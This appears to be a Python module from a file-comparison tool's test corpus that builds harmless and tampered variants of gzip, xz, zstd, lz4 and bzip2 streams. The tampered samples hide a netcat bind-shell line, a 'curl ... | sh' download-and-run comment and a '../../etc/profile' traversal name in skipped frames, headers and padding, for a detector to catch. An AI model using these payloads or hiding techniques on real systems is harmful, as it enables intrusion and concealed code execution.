"""Compressed streams: the content compressed otherwise, and what hides in or behind a stream."""

from __future__ import annotations

import bz2
import gzip as stdlib_gzip
import struct
from collections.abc import Callable, Iterator
from functools import partial

from banbury.compare.corpus.pairs import Made, Recipe, attack, harmless
from banbury.compare.corpus.toolchain import within
from banbury.compare.corpus.trees import text
from banbury.compare.corpus.writers.packed import gzip, lz4_frame, skippable, xz, zstd

CONTENT = text(90_000, "stream")
EVIL = b"#!/bin/sh\nnc -l -p 4444 -e /bin/sh\n"


def _bit(data: bytes = CONTENT) -> bytes:
    out = bytearray(data)
    out[30_000] ^= 1
    return bytes(out)


_WRITERS: dict[str, Callable[[bytes], bytes]] = {
    "gzip": gzip,
    "xz": xz,
    "zstd": zstd,
    "lz4": lz4_frame,
    "bzip2": bz2.compress,
}


def _changed(name: str) -> bytes:
    return _WRITERS[name](_bit())


_LAB = {
    "gzip": gzip(CONTENT),
    "xz": xz(CONTENT),
    "zstd": zstd(CONTENT),
    "lz4": lz4_frame(CONTENT),
    "bzip2": bz2.compress(CONTENT),
}
_VENDOR = {
    "gzip": gzip(CONTENT, level=6, mtime=1_700_000_000),
    "xz": xz(CONTENT, preset=1),
    "zstd": zstd(CONTENT, level=9),
    "lz4": lz4_frame(CONTENT, level=9),
    "bzip2": bz2.compress(CONTENT, 1),
}
_SAME = frozenset[str]()


def _same(name: str, b: bytes) -> Made:
    return Made(a=_LAB[name], b=b, changes=_SAME)


def _tampered(name: str, b: bytes, content: bool = False, good: bool = True) -> Made:
    return Made(a=_LAB[name], b=b, base=_VENDOR[name], changes=None if content else _SAME, well_formed=good)


def _command(name: str, *command: str) -> Made:
    """Compressed by the format's own tool."""
    suffix = {"gzip": "gz", "xz": "xz", "zstd": "zst", "lz4": "lz4", "bzip2": "bz2"}[name]
    return _same(name, within({"content": CONTENT}, command, out=f"content.{suffix}"))


def _wrong(name: str) -> bytes:
    """The vendor's stream with a wrong check of its content."""
    data = bytearray(_VENDOR[name])
    at = {"gzip": -8, "zstd": -4, "lz4": -4, "bzip2": 10}.get(name, 0)
    if name == "xz":
        return xz(CONTENT, preset=1, wrong=1)
    data[at] ^= 1
    return bytes(data)


def _sizes_wrong() -> bytes:
    """The trailer states another length (modulo 2^32), the checksum is right."""
    data = _VENDOR["gzip"]
    return data[:-4] + struct.pack("<I", len(CONTENT) + 1)


def _same_rows() -> Iterator[tuple[str, str, str, str, bytes]]:
    yield "gzip", "level", "compression", "Another level.", gzip(CONTENT, level=1)
    yield "gzip", "time", "clock", "The header has a time.", gzip(CONTENT, mtime=1_700_000_000)
    yield "gzip", "name", "path", "The header has the file's name.", gzip(CONTENT, name=b"content.bin")
    yield "gzip", "system", "identity", "The header names another operating system.", gzip(CONTENT, system=255)
    yield "gzip", "library", "compression", "Written by another program.", stdlib_gzip.compress(CONTENT, 5, mtime=7)
    yield "xz", "level", "compression", "Another level.", xz(CONTENT, preset=0)
    yield "xz", "blocks", "compression", "Several blocks, as with threads.", xz(CONTENT, block=16_384, sizes=True)
    yield "xz", "check", "compression", "Another kind of check.", xz(CONTENT, check=1)
    yield "xz", "padding", "padding", "Zeros behind the stream, as the format allows.", xz(CONTENT, padding=bytes(8))
    yield "zstd", "level", "compression", "Another level.", zstd(CONTENT, level=19)
    yield "zstd", "unchecked", "compression", "No checksum of the content.", zstd(CONTENT, check=False)
    yield "zstd", "fast", "compression", "One of the fast levels.", zstd(CONTENT, level=-5)
    yield "lz4", "level", "compression", "Another level.", lz4_frame(CONTENT, level=12)
    yield "lz4", "unchecked", "compression", "No checksum of the content.", lz4_frame(CONTENT, check=False)
    yield "bzip2", "level", "compression", "Blocks of another size.", bz2.compress(CONTENT, 3)


def _attack_rows() -> Iterator[tuple[str, str, str, str, Made]]:
    for name, clean in _VENDOR.items():
        yield (
            name,
            "bit",
            "content",
            "One bit of the content is changed.",
            _tampered(name, _changed(name), content=True),
        )
        yield (
            name,
            "trailing",
            "trailing",
            "Bytes stand behind the stream.",
            _tampered(name, clean + EVIL, good=name == "bzip2"),
        )
        more = _WRITERS[name](EVIL)
        yield (
            name,
            "second",
            "extra-member",
            "A second stream follows: decompressors append its content.",
            _tampered(name, clean + more, content=True),
        )
        yield (
            name,
            "checksum",
            "checksum",
            "The content's checksum is wrong.",
            _tampered(name, _wrong(name), content=True, good=False),
        )
    empty = {"gzip": gzip(b""), "bzip2": bz2.compress(b"")}
    yield (
        "gzip",
        "empty-second",
        "hidden-space",
        "A second, empty member carries bytes in its header.",
        _tampered("gzip", _VENDOR["gzip"] + gzip(b"", comment=EVIL.replace(b"\n", b" ")), content=True),
    )
    yield (
        "bzip2",
        "empty-second",
        "extra-member",
        "A second, empty stream follows.",
        _tampered("bzip2", _VENDOR["bzip2"] + empty["bzip2"], content=True),
    )
    yield (
        "gzip",
        "extra",
        "hidden-space",
        "An extra field, which decompressors skip.",
        _tampered(
            "gzip", gzip(CONTENT, level=6, mtime=1_700_000_000, extra=b"BB" + struct.pack("<H", len(EVIL)) + EVIL)
        ),
    )
    yield (
        "gzip",
        "comment",
        "hidden-space",
        "A comment, which decompressors skip.",
        _tampered("gzip", gzip(CONTENT, level=6, mtime=1_700_000_000, comment=b"curl http://203.0.113.9/x | sh")),
    )
    yield (
        "gzip",
        "name-path",
        "attribute",
        "The stored name leads out of the folder (gunzip -N uses it).",
        _tampered("gzip", gzip(CONTENT, level=6, mtime=1_700_000_000, name=b"../../etc/profile")),
    )
    yield (
        "gzip",
        "length",
        "checksum",
        "The trailer states another length.",
        _tampered("gzip", _sizes_wrong(), content=True, good=False),
    )
    yield "gzip", "deflate-tail", "hidden-space", "The last byte's unused bits hold something.", _unused_bits()
    yield (
        "xz",
        "header-padding",
        "hidden-space",
        "A block's header is padded with something.",
        _tampered("xz", xz(CONTENT, preset=1, header_fill=b"pay!"), content=True, good=False),
    )
    yield "xz", "block-padding", "hidden-space", "A block's padding is not zero.", _block_padding()
    yield (
        "xz",
        "stream-padding",
        "hidden-space",
        "The padding behind the stream is not zero.",
        _tampered("xz", xz(CONTENT, preset=1, padding=b"\0\0\0\0evil"), content=True, good=False),
    )
    for name in ("zstd", "lz4"):
        yield (
            name,
            "skippable",
            "hidden-space",
            "A frame that decompressors skip.",
            _tampered(name, _VENDOR[name] + skippable(EVIL), content=True),
        )
        yield (
            name,
            "skippable-first",
            "hidden-space",
            "A frame that decompressors skip stands first.",
            _tampered(name, skippable(EVIL, 3) + _VENDOR[name], content=True),
        )


def _block_padding() -> Made:
    for cut in range(4):  # some length of content leaves room for padding
        content = CONTENT[: len(CONTENT) - cut]
        clean, b = xz(content, preset=1), xz(content, preset=1, block_fill=b"\xee\xee\xee")
        if clean != b:
            return Made(a=xz(content), b=b, base=clean, changes=None, well_formed=False)
    raise AssertionError("no block has padding")


def _unused_bits() -> Made:
    """Deflate ends within a byte; the bits above are ignored by inflaters (RFC 1951, 3.1.1)."""
    import zlib

    for cut in range(64):
        content = CONTENT[: len(CONTENT) - cut]
        clean = gzip(content, level=6, mtime=1_700_000_000)
        last = clean[-9]
        for bit in (0x80, 0x40):
            other = clean[:-9] + bytes([last ^ bit]) + clean[-8:]
            try:
                if zlib.decompress(other, 31) == content:
                    return Made(
                        a=gzip(content), b=other, base=clean, touched=((len(clean) - 9, len(clean) - 8),), changes=_SAME
                    )
            except zlib.error:
                continue
    raise AssertionError("deflate always fills its last byte")


_COMMANDS = (
    ("gzip", "tool", "gzip", "-n", "-5"),
    ("xz", "tool-threads", "xz", "-T2", "--block-size=20000", "-3"),
    ("zstd", "tool-threads", "zstd", "-q", "-T2", "-12"),
    ("lz4", "tool", "lz4", "-q", "-9", "-BD"),
    ("bzip2", "tool", "bzip2", "-4"),
)


def recipes() -> Iterator[Recipe]:
    for name, key, group, note, data in _same_rows():
        yield harmless(f"{name}-same-{key}", name, group, note, partial(_same, name, data))
    for name, key, *command in _COMMANDS:
        last = ["content", "content.lz4"] if name == "lz4" else ["content"]
        yield harmless(
            f"{name}-same-{key}",
            name,
            "compression",
            "Compressed by the format's own tool.",
            partial(_command, name, *command, *last),
            pure=False,
        )
    for name, key, group, note, made in _attack_rows():
        yield attack(f"{name}-{key}", name, group, note, partial(_given, made))


def _given(made: Made) -> Made:
    return made
